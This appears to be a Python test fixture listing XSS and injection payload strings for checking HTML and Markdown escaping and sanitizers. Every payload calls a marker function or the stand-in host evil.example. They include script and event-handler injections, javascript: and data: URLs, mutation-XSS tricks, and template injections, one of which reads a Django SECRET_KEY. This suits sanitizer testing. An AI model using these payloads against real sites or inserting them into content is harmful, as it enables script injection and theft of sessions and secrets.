"""Texts that do harm if they are not escaped.

Scripts call `hit`, elements have the attribute `data-hostile`, and URLs name a host that does not
exist.
"""

PAYLOADS = (
    # Elements, alone and after closing tags of what may surround them.
    "<script data-hostile>hit(1)</script>",
    "</script><script data-hostile>hit(2)</script>",
    '"><script data-hostile>hit(3)</script>',
    "<SCRIPT/data-hostile SRC=//evil.example/x.js></SCRIPT>",
    "<img data-hostile src=x onerror=hit(5)>",
    '"><img data-hostile src=x onerror="hit(6)">',
    "'><img data-hostile src=x onerror='hit(7)'>",
    "`><img data-hostile src=x onerror=hit(8)>",
    "</textarea><img data-hostile src=x onerror=hit(9)>",
    "</title></head><body data-hostile onload=hit(10)>",
    "</template><img data-hostile src=x onerror=hit(11)>",
    "</select></option><img data-hostile src=x onerror=hit(12)>",
    "<!--><img data-hostile src=x onerror=hit(13)>-->",
    "<![CDATA[<img data-hostile src=x onerror=hit(14)>]]>",
    "<svg data-hostile onload=hit(15)>",
    "<svg data-hostile><animate onbegin=hit(16) attributeName=x dur=1s>",
    '<svg data-hostile><a xlink:href="javascript:hit(17)"><text>x</text></a></svg>',
    "<details data-hostile open ontoggle=hit(18)>",
    "<input data-hostile autofocus onfocus=hit(19)>",
    '<iframe data-hostile srcdoc="<script>parent.hit(20)</script>"></iframe>',
    '<object data-hostile data="javascript:hit(21)"></object>',
    '<base data-hostile href="http://evil.example/">',
    '<meta data-hostile http-equiv=refresh content="0;url=http://evil.example/">',
    '<link data-hostile rel=stylesheet href="http://evil.example/x.css">',
    # Attributes.
    '" autofocus onfocus="hit(25)" data-hostile="',
    "' autofocus onfocus='hit(26)' data-hostile='",
    '" style="position:fixed;background:url(http://evil.example/x)" data-hostile="',
    # Addresses, also in Markdown.
    "javascript:hit(28)",
    '<a data-hostile href="javascript:hit(29)">x</a>',
    "[x](javascript:hit(30)) ![x](http://evil.example/x.png)",
    # Styles.
    "<style data-hostile>* { display: none }</style>",
    '</style><style data-hostile>@import "http://evil.example/x.css";</style>',
    # Expressions of template and script languages.
    '<div data-hostile x-data x-init="hit(33)" x-html="hit(33)"></div>',
    '" x-data x-init="hit(34)" data-hostile="',
    "{{ constructor.constructor('hit(35)')() }}",
    '{% debug %}{% include "admin/base.html" %}{{ settings.SECRET_KEY }}',
    "${hit(37)}'; hit(37); //",
    '"}]}</script><img data-hostile src=x onerror=hit(38)>\\',
    "\\u003cimg data-hostile src=x onerror=hit(39)\\u003e",
    "&lt;img data-hostile src=x onerror=hit(40)&gt;&#60;b data-hostile&#62;",
    # Invisible characters, and characters that reverse others.
    "\u202egnp.exe\u202c\u200b\u2066\ufeff\u2028<b data-hostile>",
    "\\u0000%00\x01\x1b[31m\x7f<b data-hostile>",
    "W" * 2_000 + "<b data-hostile>",
)
ALL = " ".join(PAYLOADS)

# Known attacks on Markdown parsers and sanitizers; some are shown as valid Markdown.
MARKDOWN = (
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoNDYpPC9zY3JpcHQ+) <data:text/html,hit(46)>",
    "[x](&#x4A;avaScript&colon;hit(47)) [y](java&Tab;script:hit(47)) [z](\\x01javascript:hit(47))",
    '[x](<javascript:hit(48)> "a") [y][r] <javascript:hit(48)>\n\n[r]: vbscript:hit(48)',
    '[x](http://a.example/"onmouseover=hit(49)) ![" onerror=hit(49) x="](http://evil.example/y)',
    "```html onload=hit(50)\n<img data-hostile src=x onerror=hit(50)>\n```",
    "| <img data-hostile src=x onerror=hit(51)> |\n| - |\n| [x](javascript:hit(51)) |",
    "# <a data-hostile id=api href=javascript:hit(52)>x</a>\n- [ ] <input data-hostile>",
    # MathML, SVG, and elements that are parsed again when they are moved.
    "<math data-hostile><mtext><table><mglyph><style><img src=x onerror=hit(53)>",
    '<math data-hostile href="javascript:hit(54)"><mi xlink:href="javascript:hit(54)">x</math>',
    "<svg data-hostile></p><style><g title='</style><img data-hostile src=x onerror=hit(55)>'>",
    "<noscript><p title='</noscript><img data-hostile src=x onerror=hit(56)>'>",
    "<svg data-hostile><use href='data:image/svg+xml,<svg onload=hit(57)>'/></svg>",
    "<form data-hostile action=javascript:hit(58)><button formaction=javascript:hit(58)>x</button>",
    "<a data-hostile ping=//evil.example/ href=#>x</a><img data-hostile srcset=//evil.example/>",
    "<video data-hostile poster=//evil.example/><source onerror=hit(60)></video>",
)
